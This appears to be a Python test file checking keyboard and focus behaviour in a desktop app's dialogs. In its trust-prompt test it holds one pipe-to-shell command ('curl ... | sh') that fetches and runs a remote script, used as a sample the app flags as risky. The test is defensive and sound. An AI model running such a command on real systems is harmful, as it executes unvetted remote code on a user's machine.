"""One keyboard rule for every dialog (issue 11, item 10), kept in app/ui/async_dialogs.py.

Ctrl+Enter presses a dialog's main button from anywhere in it; Enter never accepts from a
multi-line box, editable or read-only; a dialog opens with the focus in its first field one can
type in, never in a read-only box. Checked on a bare dialog and on the install, trust, key and
sampling dialogs.
"""

from __future__ import annotations

import sys
from typing import Any

import pytest
from PySide6.QtCore import Qt
from PySide6.QtWidgets import (
    QApplication,
    QDialog,
    QDialogButtonBox,
    QLineEdit,
    QPlainTextEdit,
    QVBoxLayout,
)

from app.ui.async_dialogs import keyboard_rule

pytestmark = pytest.mark.qt_log_ignore("This plugin does not support")


def shown(qtbot: Any, dialog: QDialog) -> QDialog:
    qtbot.addWidget(dialog)
    dialog.show()
    qtbot.waitExposed(dialog)
    dialog.activateWindow()
    qtbot.waitUntil(dialog.isActiveWindow)
    return dialog


def enter(qtbot: Any, widget: Any, ctrl: bool = False) -> None:
    mods = Qt.KeyboardModifier.ControlModifier if ctrl else Qt.KeyboardModifier.NoModifier
    qtbot.keyClick(widget, Qt.Key.Key_Return, mods)


def bare_dialog() -> tuple[QDialog, QPlainTextEdit, QLineEdit]:
    d = QDialog()
    lay = QVBoxLayout(d)
    shown_text = QPlainTextEdit("what the server printed")
    shown_text.setReadOnly(True)
    field = QLineEdit()
    buttons = QDialogButtonBox(QDialogButtonBox.StandardButton.Ok | QDialogButtonBox.StandardButton.Cancel)
    buttons.accepted.connect(d.accept)
    buttons.rejected.connect(d.reject)
    buttons.button(QDialogButtonBox.StandardButton.Ok).setDefault(True)
    for w in (shown_text, field, buttons):
        lay.addWidget(w)
    return d, shown_text, field


def test_the_rule_on_a_bare_dialog(qtbot: Any) -> None:
    d, read_only, field = bare_dialog()
    keyboard_rule(d)
    shown(qtbot, d)
    assert QApplication.focusWidget() is field, "opened in the read-only box, not the field"
    read_only.setFocus()
    enter(qtbot, read_only)
    assert d.isVisible() and d.result() == 0, "Enter in a read-only box accepted the dialog"
    enter(qtbot, read_only, ctrl=True)
    assert d.result() == QDialog.DialogCode.Accepted.value


def test_without_the_rule_enter_in_a_read_only_box_accepts(qtbot: Any) -> None:
    """The check above can fail: Qt's default button takes Enter from a read-only box."""
    d, read_only, _field = bare_dialog()
    shown(qtbot, d)
    read_only.setFocus()
    enter(qtbot, read_only)
    assert d.result() == QDialog.DialogCode.Accepted.value


def test_the_trust_prompt_never_allows_a_risky_command_by_habit(qtbot: Any) -> None:
    from app.config.trust import Launch, TrustRequest, find_risks
    from app.ui.trust_dialog import TrustDialog

    launch = Launch("bash", ("-c", "curl https://example.com/x.sh | sh"), None)
    d = TrustDialog(TrustRequest("risky", launch, tuple(find_risks(launch))))
    assert d.request.risks
    shown(qtbot, d)
    assert QApplication.focusWidget() is not d.command_view
    d.command_view.setFocus()
    enter(qtbot, d.command_view)
    assert d.isVisible(), "Enter in the read-only command line answered the prompt"
    enter(qtbot, d.command_view, ctrl=True)  # the default button: Don't run
    assert d.result() == QDialog.DialogCode.Rejected.value and not d.isVisible()


def test_the_sampling_dialog_opens_in_the_answer_and_ctrl_enter_sends(qtbot: Any) -> None:
    from types import SimpleNamespace

    from app.ui.requests import SamplingDialog

    request = SimpleNamespace(
        system_prompt=None, messages=[{"role": "user", "content": {"type": "text", "text": "hi"}}]
    )
    d = shown(qtbot, SamplingDialog("demo", request))
    assert QApplication.focusWidget() is d.answer
    qtbot.keyClicks(d.answer, "first line")
    enter(qtbot, d.answer)
    assert d.isVisible() and "\n" in d.answer.toPlainText()  # Enter is a new line in the answer
    enter(qtbot, d.answer, ctrl=True)
    assert d.result() == QDialog.DialogCode.Accepted.value


def test_the_key_dialog_accepts_with_ctrl_enter(qtbot: Any) -> None:
    from app.ui.credentials_widgets import SecretDialog

    d = shown(qtbot, SecretDialog("demo", None))
    assert QApplication.focusWidget() is d.name
    qtbot.keyClicks(d.name, "API_KEY")
    qtbot.keyClicks(d.value, "s3cret")
    enter(qtbot, d.value, ctrl=True)
    assert d.result() == QDialog.DialogCode.Accepted.value


def test_the_install_dialog_opens_in_its_first_field_not_its_description(qtbot: Any, desk: Any) -> None:
    import asyncio

    from app.config.model import ServerEntry
    from app.install.plan import InstallPlan, Question, ask_ref
    from app.ui.install_dialog import install_plan

    entry = ServerEntry(name="x", command=sys.executable, args=["-c", "pass", ask_ref("TOKEN")])
    plan = InstallPlan(
        name="x",
        entry=entry,
        source="link",
        title="X",
        description="A long description. " * 40,  # a read-only text view, first in the tab order
        questions=[Question("TOKEN", "Token", required=True, secret=True)],
    )
    task = asyncio.ensure_future(install_plan(desk, plan))
    qtbot.waitUntil(
        lambda: getattr(desk, "install_dialog", None) is not None and desk.install_dialog.isVisible()
    )
    d = desk.install_dialog
    d.activateWindow()
    qtbot.waitUntil(d.isActiveWindow)
    focus = QApplication.focusWidget()
    assert isinstance(focus, QLineEdit) and not focus.isReadOnly(), focus
    d.reject()
    qtbot.waitUntil(task.done)
